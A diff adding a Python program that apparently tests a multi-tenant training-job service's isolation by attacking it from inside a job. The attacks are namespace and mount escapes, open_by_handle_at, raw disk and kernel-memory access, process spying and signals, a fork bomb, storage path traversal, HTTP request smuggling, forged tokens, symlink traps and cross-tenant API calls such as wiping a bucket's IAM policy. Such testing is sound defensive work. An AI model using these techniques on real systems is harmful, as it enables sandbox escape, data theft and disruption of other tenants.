@@ -1,0 +1,657 @@
+"""A program of a job that means harm: tries everything, harms nothing that is not its own, says what came of it.
+
+Standard library only: it runs in a replica. What it is to aim at is JSON in the variable TARGET. It prints `VERDICTS` and a
+JSON object: for each attempt what it got hold of, "" if nothing. Whatever would do damage is only proven to be possible
+(a file opened for writing and not written, signal 0 to others).
+
+It runs twice: the first time it lays traps for its own restart and kills itself.
+"""
+
+import base64
+import contextlib
+import ctypes
+import http.client
+import json
+import os
+import re
+import signal
+import socket
+import stat
+import subprocess
+import sys
+import time
+import urllib.parse
+
+TARGET = json.loads(os.environ["TARGET"])
+CANARY = re.compile(rb"canary-[0-9a-f]{32}")
+"""What others keep to themselves has one of these in it."""
+HOME = os.environ["HOME"]
+ENDPOINT = os.environ["GCE_METADATA_HOST"]
+NAMESPACED = TARGET["level"] != "session"
+libc = ctypes.CDLL(None, use_errno=True)
+
+NEWNS, NEWUSER = 0x20000, 0x10000000
+BIND, DETACH = 0x1000, 2
+PTRACE_SEIZE = 0x4206
+
+
+# --- means ---
+
+
+def said(status):
+    """The text of a wait for a child, which it left in a pipe."""
+    return status.decode("utf-8", "replace")
+
+
+def in_child(attempt, *arguments):
+    """What an attempt came to that may change or end the process it is made in."""
+    reader, writer = os.pipe()
+    child = os.fork()
+    if child == 0:
+        signal.alarm(20)
+        try:
+            os.write(writer, str(attempt(*arguments) or "").encode()[:500])
+        except BaseException:
+            pass
+        os._exit(0)
+    os.close(writer)
+    with open(reader, "rb") as told:
+        found = said(told.read())
+    os.waitpid(child, 0)
+    return found
+
+
+def first(attempt, candidates):
+    """The first candidate that an attempt gets anything of."""
+    for candidate in candidates:
+        with contextlib.suppress(OSError, http.client.HTTPException, ValueError):
+            if found := attempt(candidate):
+                return f"{candidate}: {found}"
+    return ""
+
+
+def read(path):
+    """Something of a file or a directory; "" for one that is empty."""
+    if os.path.isdir(path):
+        return ", ".join(os.listdir(path)[:3])
+    if stat.S_ISSOCK(os.stat(path).st_mode):
+        with socket.socket(socket.AF_UNIX) as one:
+            one.connect(path)
+        return "connected"
+    with open(path, "rb") as file:
+        return file.read(64)
+
+
+def can_write(path):
+    os.close(os.open(path, os.O_RDWR))
+    return "opened for writing"
+
+
+def ask(place, verb, path, body=None, token="", headers=()):
+    """(status, body) of an HTTP request to a host and port."""
+    connection = http.client.HTTPConnection(place, timeout=20)
+    try:
+        sent = {"Host": place, **dict(headers)}
+        if token:
+            sent["Authorization"] = f"Bearer {token}"
+        if isinstance(body, dict):
+            body, sent["Content-Type"] = json.dumps(body), "application/json"
+        connection.request(verb, path, body, sent)
+        answer = connection.getresponse()
+        return answer.status, answer.read()
+    finally:
+        connection.close()
+
+
+def metadata(place):
+    path = "/computeMetadata/v1/instance/service-accounts/default/token"
+    status, body = ask(place, "GET", path, headers={"Metadata-Flavor": "Google"})
+    return json.loads(body)["access_token"] if status == 200 else ""
+
+
+def raw(place, *lines):
+    """What a server answers to bytes that are no request of a client's."""
+    host, port = place.split(":")
+    with socket.create_connection((host, int(port)), timeout=10) as one:
+        one.sendall(b"".join(lines))
+        one.settimeout(3)
+        data = b""
+        with contextlib.suppress(OSError):
+            while part := one.recv(4096):
+                data += part
+    return data
+
+
+# --- files ---
+
+
+def service_files():
+    return first(read, TARGET["service_files"])
+
+
+def others_files():
+    return first(read, TARGET["others_files"])
+
+
+def cache():
+    return first(read, TARGET["cache_files"])
+
+
+def home():
+    return first(read, TARGET["home_files"])
+
+
+def elsewhere():
+    return first(read, TARGET["elsewhere_files"])
+
+
+def traps():
+    """Links that were laid before the restart, in whose place the service shows directories: do they lead anywhere?"""
+    places = ["/var/hypertune", "/tmp", os.environ["TMPDIR"], HOME + "/hypertune", HOME + "/tmp"]
+    found = [place + "/trainshed.db" for place in places if not os.path.islink(place)]
+    return first(read, found)
+
+
+def hidden():
+    """Whether anything of the service is to be seen, by its own path or below another root."""
+    roots = [""] + ["/proc/%s/%s" % (pid, kind) for pid in pids() for kind in ("root", "cwd")]
+    return first(read, [root + path for root in roots for path in TARGET["service_files"]])
+
+
+def mounts():
+    with open("/proc/self/mountinfo") as file:
+        return [line.split()[4] for line in file]
+
+
+def undo_mounts():
+    def below(own_user):
+        user, group = os.geteuid(), os.getegid()
+        if own_user:
+            if libc.unshare(NEWUSER | NEWNS):
+                return ""
+            for name, text in (
+                ("setgroups", "deny"),
+                ("uid_map", "0 %d 1" % user),
+                ("gid_map", "0 %d 1" % group),
+            ):
+                with contextlib.suppress(OSError), open("/proc/self/" + name, "w") as file:
+                    file.write(text)
+        else:
+            libc.unshare(NEWNS)
+        copy = os.path.join(HOME, "work", "copy")
+        os.makedirs(copy, exist_ok=True)
+        # A bind without what is mounted below would show what the mounts cover; an overlay likewise.
+        libc.mount(b"/", copy.encode(), None, BIND, None)
+        if found := first(read, [copy + path for path in TARGET["service_files"]]):
+            return "a second bind, " + found
+        above, name = os.path.split(TARGET["data"])
+        os.makedirs(copy + "2", exist_ok=True)
+        libc.mount(
+            b"overlay",
+            (copy + "2").encode(),
+            b"overlay",
+            0,
+            ("lowerdir=%s:%s" % (above, copy)).encode(),
+        )
+        inside = [path.replace(above, copy + "2", 1) for path in TARGET["service_files"]]
+        if found := first(read, inside):
+            return "an overlay, " + found
+        for place in reversed(mounts()):
+            libc.umount2(place.encode(), DETACH)
+        return hidden()
+
+    def by_handle():
+        """The root directory of the file system itself, as open_by_handle_at(2) finds it by its number."""
+        described = ctypes.create_string_buffer(8 + 8)
+        ctypes.memmove(described, (8).to_bytes(4, "little") + (1).to_bytes(4, "little"), 8)
+        ctypes.memmove(ctypes.addressof(described) + 8, (2).to_bytes(8, "little"), 8)
+        mount = os.open(HOME, os.O_RDONLY)
+        root = libc.open_by_handle_at(mount, described, os.O_RDONLY | os.O_DIRECTORY)
+        return root >= 0 and os.listdir(root)[:3]
+
+    return (
+        hidden()
+        or in_child(below, False)
+        or in_child(below, True)
+        or (NAMESPACED and in_child(by_handle))
+        or ""
+    )
+
+
+def disks():
+    """The disk below the file system, the kernel's memory."""
+    place = os.path.join(HOME, "work", "disk")
+
+    def make():
+        os.mknod(place, stat.S_IFBLK | 0o600, os.stat(HOME).st_dev)
+        with open(place, "rb") as disk:
+            return disk.read(1) and "the disk"
+
+    return in_child(make) or first(read, ["/dev/mem", "/proc/kcore"])
+
+
+def machine_files():
+    return first(can_write, ["/etc/passwd", "/proc/sys/kernel/core_pattern"])
+
+
+def set_user_bits():
+    done = subprocess.run(TARGET["set_user_programs"], capture_output=True, check=False)
+    return bool(CANARY.search(done.stdout)) and "read as another user"
+
+
+def own_limits():
+    """Whether the replica's own limits can be changed, or left."""
+    places = []
+    with open("/proc/self/cgroup") as file:
+        for line in file:
+            _, names, path = line.strip().split(":", 2)
+            for base in {"/sys/fs/cgroup/" + names, "/sys/fs/cgroup"} if path != "/" else ():
+                group = base + path
+                places += [
+                    group + "/memory.limit_in_bytes",
+                    group + "/memory.max",
+                    group + "/pids.max",
+                    os.path.dirname(group) + "/cgroup.procs",
+                    os.path.dirname(group) + "/tasks",
+                ]
+    return first(can_write, places)
+
+
+# --- processes ---
+
+
+def pids():
+    return [int(name) for name in os.listdir("/proc") if name.isdigit()]
+
+
+def others():
+    """Processes that are not ours: the guardian, the relay, and whatever else is to be seen."""
+    children = {os.getpid()}
+    for pid in sorted(pids()):
+        with contextlib.suppress(OSError), open("/proc/%d/stat" % pid) as file:
+            if int(file.read().rpartition(")")[2].split()[1]) in children:
+                children.add(pid)
+    return [pid for pid in pids() if pid not in children]
+
+
+def see_processes():
+    """Other jobs' processes and the service's."""
+    if NAMESPACED:
+        own = {os.getpid(), 1}
+        names = {}
+        for pid in set(pids()) - own:
+            with contextlib.suppress(OSError), open("/proc/%d/comm" % pid) as file:
+                names[pid] = file.read().strip()
+        # Our own relay is one of ours, as far as that goes.
+        return ", ".join(name for name in names.values() if not name.startswith("ts-"))
+    return first(lambda pid: read("/proc/%d/cmdline" % pid), TARGET["others_pids"])
+
+
+def spy():
+    """Memory, environment, files of processes that are not ours."""
+
+    def pry(pid):
+        for name in ("environ", "mem", "fd", "root/", "cwd/"):
+            path = "/proc/%d/%s" % (pid, name)
+            with contextlib.suppress(OSError):
+                if name == "mem":
+                    os.close(os.open(path, os.O_RDWR))
+                elif name == "fd":
+                    # Open handles of others could be reopened.
+                    os.stat(path + "/0")
+                elif not read(path):
+                    continue
+                return name
+        if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
+            return "traced"
+        return ""
+
+    return in_child(lambda: first(pry, others()))
+
+
+def send_signals():
+    if NAMESPACED:
+        # The first process of the namespace: it would take all others with it.
+        with contextlib.suppress(OSError):
+            os.kill(1, signal.SIGKILL)
+    known = set(pids()) if NAMESPACED else set()
+    targets = [pid for pid in TARGET["others_pids"] if pid not in known]
+    return first(lambda pid: os.kill(pid, 0) is None and "signalled", targets)
+
+
+def fork_bomb():
+    made = []
+    try:
+        while len(made) < TARGET["processes"] + 20:
+            child = os.fork()
+            if child == 0:
+                time.sleep(60)
+                os._exit(0)
+            made.append(child)
+    except OSError:
+        return ""
+    finally:
+        for child in made:
+            os.kill(child, signal.SIGKILL)
+            os.waitpid(child, 0)
+    return "%d processes" % len(made)
+
+
+# --- storage ---
+
+IDENTITY = json.dumps(
+    {"kind": "person", "email": "owner@example.com", "project": "", "job_uid": "", "attempt": 0, "replica": ""}
+)
+
+
+def bucket_directory():
+    bucket = TARGET["other_bucket"]
+    return first(read, ["/gcs/" + bucket, TARGET["data"] + "/buckets/" + bucket])
+
+
+def own_bucket_directory():
+    own = TARGET["own_bucket"]
+    places = ("/gcs/" + own, TARGET["data"] + "/buckets/" + own)
+    return next((place for place in places if os.path.isdir(place)), "")
+
+
+def paths_of_others():
+    other, own = TARGET["other_bucket"], TARGET["own_bucket"]
+    return [
+        f"/storage/v1/b/{other}/o/secret?alt=media",
+        f"/download/storage/v1/b/{other}/o/secret?alt=media",
+        f"/{other}/secret",
+        f"/storage/v1/b/{other}/o",
+        f"/storage/v1/b/{other}/o/secret?alt=media&project={TARGET['other_project']}&userProject={TARGET['other_project']}",
+        f"/storage/v1/b/{own}/o/..%2F{other}%2Fsecret?alt=media",
+        f"/storage/v1/b/{own}%2F..%2F{other}/o/secret?alt=media",
+        f"/storage/v1/b/../b/{other}/o/secret?alt=media",
+        f"//storage/v1/b/{other}/o/secret?alt=media",
+        f"/with/{'A' * 43}/storage/v1/b/{other}/o/secret?alt=media",
+    ]
+
+
+def batch(place, token):
+    other = TARGET["other_bucket"]
+    body = (
+        "--x\r\nContent-Type: application/http\r\nContent-ID: <1>\r\n\r\n"
+        f"GET /storage/v1/b/{other}/o HTTP/1.1\r\nX-Trainshed-Identity: {IDENTITY}\r\n\r\n\r\n--x--\r\n"
+    )
+    kind = {"Content-Type": "multipart/mixed; boundary=x"}
+    _, found = ask(place, "POST", "/batch/storage/v1", body, token, kind)
+    return b'"secret"' in found and "a batch"
+
+
+def steal(place, token):
+    """Anything of the other bucket's by requests to a server."""
+    for headers in ({}, {"X-Trainshed-Identity": IDENTITY}):
+        for path in paths_of_others():
+            with contextlib.suppress(http.client.HTTPException):
+                status, body = ask(place, "GET", path, None, token, headers)
+                if CANARY.search(body) or (status == 200 and b'"secret"' in body):
+                    return path
+        other, own = TARGET["other_bucket"], TARGET["own_bucket"]
+        writes = [
+            ("POST", f"/storage/v1/b/{other}/o/secret/rewriteTo/b/{own}/o/stolen", {}),
+            ("POST", f"/storage/v1/b/{other}/o/secret/copyTo/b/{own}/o/stolen", {}),
+            ("POST", f"/upload/storage/v1/b/{other}/o?uploadType=media&name=planted", {}),
+            ("DELETE", f"/storage/v1/b/{other}/o/nothing", None),
+            ("PUT", f"/storage/v1/b/{other}/iam", {"bindings": []}),
+            ("PATCH", f"/storage/v1/b/{other}", {"labels": {}}),
+        ]
+        for verb, path, body in writes:
+            status, _ = ask(place, verb, path, body, token, headers)
+            if status < 400 or (verb == "DELETE" and status == 404):
+                return f"{verb} {path}: {status}"
+    return batch(place, token)
+
+
+def by_own_endpoint():
+    own = steal(ENDPOINT, "") or steal(ENDPOINT, metadata(ENDPOINT))
+    if own:
+        return own
+    line = json.dumps({"project": TARGET["other_project"], "job_uid": 1}).encode() + b"\n"
+    ask_for = b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % paths_of_others()[0].encode()
+    return CANARY.search(raw(ENDPOINT, line, ask_for)) and "an introduction"
+
+
+def by_ports():
+    token = metadata(ENDPOINT)
+    line = json.dumps({"project": TARGET["other_project"], "job_uid": 1}).encode() + b"\n"
+    ask_for = b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % paths_of_others()[0].encode()
+    for place in (TARGET["storage_port"], TARGET["rest"]):
+        if found := steal(place, "") or steal(place, token):
+            return f"{place}: {found}"
+        if CANARY.search(raw(place, line, ask_for)):
+            return f"{place}: an introduction"
+        # Two requests where a careless gateway sees one.
+        smuggled = (
+            b"POST /storage/v1/b HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
+            b"0\r\n\r\n"
+            b"GET %s HTTP/1.1\r\nHost: x\r\nX-Trainshed-Identity: %s\r\n\r\n"
+        ) % (paths_of_others()[0].encode(), IDENTITY.encode())
+        if CANARY.search(raw(place, smuggled)):
+            return f"{place}: smuggled"
+    return ""
+
+
+def by_other_endpoint():
+    """The other job's own endpoint knows no token: who calls is whom it believes."""
+    place = TARGET["other_endpoint"]
+
+    def attempt(path):
+        status, body = ask(place, "GET", path)
+        return status == 200 and CANARY.search(body) and "read"
+
+    with contextlib.suppress(OSError, http.client.HTTPException):
+        if metadata(place):
+            return "its token"
+    return first(attempt, paths_of_others()[:3])
+
+
+def by_links():
+    """What the service reads for us, where we put links to what we may not read."""
+    where = own_bucket_directory()
+    if not where:
+        return ""
+    for number, path in enumerate(TARGET["link_targets"]):
+        with contextlib.suppress(FileExistsError):
+            os.symlink(path, f"{where}/link{number}")
+    with contextlib.suppress(FileExistsError):
+        os.mkfifo(where + "/fifo")
+    with contextlib.suppress(FileExistsError):
+        os.symlink(TARGET["data"], where + "/dir")
+    own = TARGET["own_bucket"]
+    names = [f"link{number}" for number, _ in enumerate(TARGET["link_targets"])]
+    names += ["fifo", "dir/tokens.json", "dir/buckets/%s/secret" % TARGET["other_bucket"]]
+    for name in names:
+        quoted = urllib.parse.quote(name, safe="")
+        status, body = ask(ENDPOINT, "GET", f"/storage/v1/b/{own}/o/{quoted}?alt=media")
+        if status == 200:
+            return name + ": " + said(body[:40])
+    status, body = ask(ENDPOINT, "GET", f"/storage/v1/b/{own}/o?prefix=dir/")
+    if status == 200 and json.loads(body).get("items"):
+        return "a list"
+    # And to write through one.
+    ask(ENDPOINT, "POST", f"/upload/storage/v1/b/{own}/o?uploadType=media&name=dir%2Fplanted", b"x")
+    return TARGET["planted"] and os.path.exists(TARGET["planted"]) and "written"
+
+
+# --- the network and the API ---
+
+
+def abstract_sockets():
+    with socket.socket(socket.AF_UNIX) as one:
+        one.connect("\0" + TARGET["abstract"])
+    return "connected"
+
+
+def loopback():
+    """Servers of this machine, other jobs' among them."""
+    host, port = TARGET["other_endpoint"].split(":")
+    with socket.create_connection((host, int(port) - 1), timeout=10):
+        return "connected"
+
+
+def others_address():
+    with socket.socket() as one:
+        one.bind((TARGET["other_endpoint"].split(":")[0], 0))
+    return "bound"
+
+
+def daemons():
+    return first(read, ["/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock"])
+
+
+def api(token):
+    """What can be learned of, or done to, others by the service's own API."""
+    own, other, job = TARGET["own_project"], TARGET["other_project"], TARGET["other_job"]
+    mine = TARGET["own_job_parent"] + "/" + os.environ["CLOUD_ML_JOB_ID"]
+    region = "locations/us-central1"
+    reads = [
+        f"/v1/projects/{other}/{region}/customJobs",
+        f"/v1/projects/{other}/{region}/customJobs/{job}",
+        f"/v1/projects/{own}/{region}/customJobs/{job}",
+        f"/v1/projects/{TARGET['other_number']}/{region}/customJobs",
+        f"/v1/projects/-/{region}/customJobs",
+        f"/v1/projects/{other}/jobs",
+        f"/trainshed/v1/jobs/{job}",
+        f"/trainshed/v1/jobs/{job}/logs",
+        f"/trainshed/v1/jobs/{job}/usage",
+        f"/trainshed/v1/jobs/{job}/autopsies",
+        f"/trainshed/v1/projects/{other}/secrets",
+        f"/trainshed/v1/projects/{own}/secrets",
+    ]
+    for path in reads:
+        status, body = ask(TARGET["rest"], "GET", path, token=token)
+        if status == 200 and body.strip() not in (b"", b"{}"):
+            return f"{path}: {said(body[:60])}"
+    spec = {"displayName": "x", "jobSpec": {"workerPoolSpecs": []}}
+    writes = [
+        ("POST", f"/v1/projects/{other}/{region}/customJobs", spec),
+        ("POST", f"/v1/projects/{own}/{region}/customJobs", spec),
+        ("POST", f"/v1/projects/{other}/{region}/customJobs/{job}:cancel", {}),
+        ("POST", mine + ":cancel", {}),
+        ("DELETE", mine, None),
+        ("POST", f"/trainshed/v1/jobs/{job}:cancel", {}),
+        ("POST", f"/trainshed/v1/jobs/{job}:shell", {}),
+        ("POST", f"/trainshed/v1/jobs/{job}/shell", {}),
+        ("POST", "/v2/entries:list", {"resourceNames": [f"projects/{other}"]}),
+        ("POST", "/trainshed/v1/nodes/local:drain", {}),
+    ]
+    for verb, path, body in writes:
+        status, answer = ask(TARGET["rest"], verb, path, body, token)
+        # Refused for what it says is refused too late: it was let in.
+        if status not in (401, 403, 404, 405):
+            return f"{verb} {path}: {status} {said(answer[:200])}"
+    return ""
+
+
+def forged():
+    token = metadata(ENDPOINT)
+    head, claims, signature = token.split(".")
+    fields = json.loads(base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4)))
+    changed = [TARGET["other_project"] if field == TARGET["own_project"] else field for field in fields]
+    other = base64.urlsafe_b64encode(json.dumps(changed).encode()).decode().rstrip("=")
+    made = [f"{head}.{other}.{signature}", f"{head}.{other}.", f"{head}.{other}", "tsj1..", "null"]
+
+    def attempt(text):
+        path = f"/v1/projects/{TARGET['other_project']}/locations/us-central1/customJobs"
+        return ask(TARGET["rest"], "GET", path, token=text)[0] == 200 and "believed"
+
+    return first(attempt, made)
+
+
+ATTEMPTS = {
+    "service files": service_files,
+    "files of other jobs": others_files,
+    "what other jobs run in": cache,
+    "home": home,
+    "elsewhere": elsewhere,
+    "mounts": undo_mounts,
+    "links for a restart": traps,
+    "machine": machine_files,
+    "disks": disks,
+    "set-user bits": set_user_bits,
+    "own limits": own_limits,
+    "processes": see_processes,
+    "spying": spy,
+    "signals": send_signals,
+    "processes without end": fork_bomb,
+    "bucket directory": bucket_directory,
+    "bucket, own endpoint": by_own_endpoint,
+    "bucket, ports": by_ports,
+    "bucket, other endpoint": by_other_endpoint,
+    "links in buckets": by_links,
+    "API without a token": lambda: api(""),
+    "API with its token": lambda: api(metadata(ENDPOINT)),
+    "forged tokens": forged,
+    "daemons": daemons,
+    "abstract sockets": abstract_sockets,
+    "loopback": loopback,
+    "addresses": others_address,
+}
+
+
+def controls():
+    """What must succeed, or the attempts prove nothing."""
+    token = metadata(ENDPOINT)
+    mine = TARGET["own_job_parent"] + "/" + os.environ["CLOUD_ML_JOB_ID"]
+    own = TARGET["own_bucket"]
+    return {
+        "its own job": ask(TARGET["rest"], "GET", mine, token=token)[0],
+        "its own object": ask(ENDPOINT, "GET", f"/storage/v1/b/{own}/o/mine?alt=media")[0],
+        "its own object at the port": ask(
+            TARGET["storage_port"], "GET", f"/storage/v1/b/{own}/o/mine?alt=media", token=token
+        )[0],
+    }
+
+
+def lay_traps():
+    """What the service will find when it starts this program again."""
+    for name in ("hypertune", "tmp"):
+        place = os.path.join(HOME, name)
+        # In its place there may be a mount; then it is its name at home that counts.
+        with contextlib.suppress(OSError):
+            os.rename(place, place + ".old")
+            os.symlink(TARGET["data"], place)
+    for number, path in enumerate(TARGET["link_targets"]):
+        with contextlib.suppress(OSError):
+            os.symlink(path, os.path.join(HOME, "work", "trap%d" % number))
+    with open(os.path.join(HOME, "work", "trapped"), "w"):
+        pass
+    os.kill(os.getpid(), signal.SIGKILL)
+
+
+def main():
+    if not os.path.exists(os.path.join(HOME, "work", "trapped")):
+        lay_traps()
+    found, why = {}, {}
+    for name, attempt in ATTEMPTS.items():
+        begin = time.monotonic()
+        try:
+            found[name] = str(attempt() or "")
+        except (OSError, http.client.HTTPException) as error:
+            found[name], why[name] = "", str(error)
+        why[name] = "%s %.2fs" % (why.get(name, ""), time.monotonic() - begin)
+    print("WHY " + json.dumps(why))
+    print("CONTROLS " + json.dumps(controls()))
+    print("TOKEN " + metadata(ENDPOINT))
+    print("VERDICTS " + json.dumps(found), flush=True)
+    # Whoever has heard it writes an object: until then its token is good.
+    while ask(ENDPOINT, "GET", f"/storage/v1/b/{TARGET['own_bucket']}/o/heard")[0] != 200:
+        time.sleep(0.1)
+    flood()
+    sys.exit(3)
+
+
+def flood():
+    """A line without an end, and then more than anybody will read."""
+    block = b"x" * (1 << 20)
+    for _ in range(TARGET["flood"]):
+        os.write(1, block)
+    for _ in range(TARGET["flood"]):
+        os.write(1, b"a line\n" * 100_000)
+
+
+main()
